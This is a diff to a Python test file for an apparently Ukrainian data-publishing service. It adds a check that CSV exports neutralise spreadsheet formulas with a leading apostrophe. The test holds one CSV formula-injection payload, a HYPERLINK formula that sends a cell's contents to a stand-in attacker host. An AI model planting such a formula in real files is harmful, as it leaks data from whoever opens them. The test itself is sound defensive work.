@@ -102,7 +102,7 @@ def _approved_cycle(client: TestClient, clock: FixedClock) -> tuple[int, dict[st
                     "email": "p@example.org",
                     "phone": "+380 (50) 123-45-67",
                 },
-                "items": [_full_item(n) for n in (1, 2)],
+                "items": [_full_item(1), {**_full_item(2), "description": FORMULA}],
             },
         ).status_code
         == 201
@@ -115,6 +115,10 @@ def _approved_cycle(client: TestClient, clock: FixedClock) -> tuple[int, dict[st
     )
     assert approve.status_code == 200, approve.text
     return int(cycle["id"]), org
+
+
+# A description a spreadsheet would run (CSV formula injection), typed by a staff member.
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Архів")'
 
 
 def _full_item(n: int) -> dict[str, object]:
@@ -178,6 +182,16 @@ def test_package_is_valid_and_publish_never_duplicates(
     assert first["dateCreated"] == "2016-01-01"
     assert first["dataUser"] == "Загальний відділ"
     assert first["developerId"] == "12345678"
+    # Every CSV keeps a formula as text (a leading apostrophe), the JSON keeps it verbatim,
+    # and a +380 phone stays as the structure requires.
+    by_name = {row[audit[0].index("title")]: dict(zip(audit[0], row, strict=True)) for row in audit}
+    assert by_name["Вид інформації 2"]["description"] == "'" + FORMULA
+    items = json.loads((out / "audit-results.json").read_text())
+    assert FORMULA in [i["description"] for i in items]
+    annex4 = PdfReader(out / "report.pdf").attachments["annex4.csv"][0].decode("utf-8-sig")
+    assert ["2", "Вид інформації 2", "'" + FORMULA] in [
+        r[:3] for r in csv.reader(io.StringIO(annex4))
+    ]
     register = _rows(out / "register.csv")
     assert register[0] == field_names("register")
     assert len(register[0]) == 12
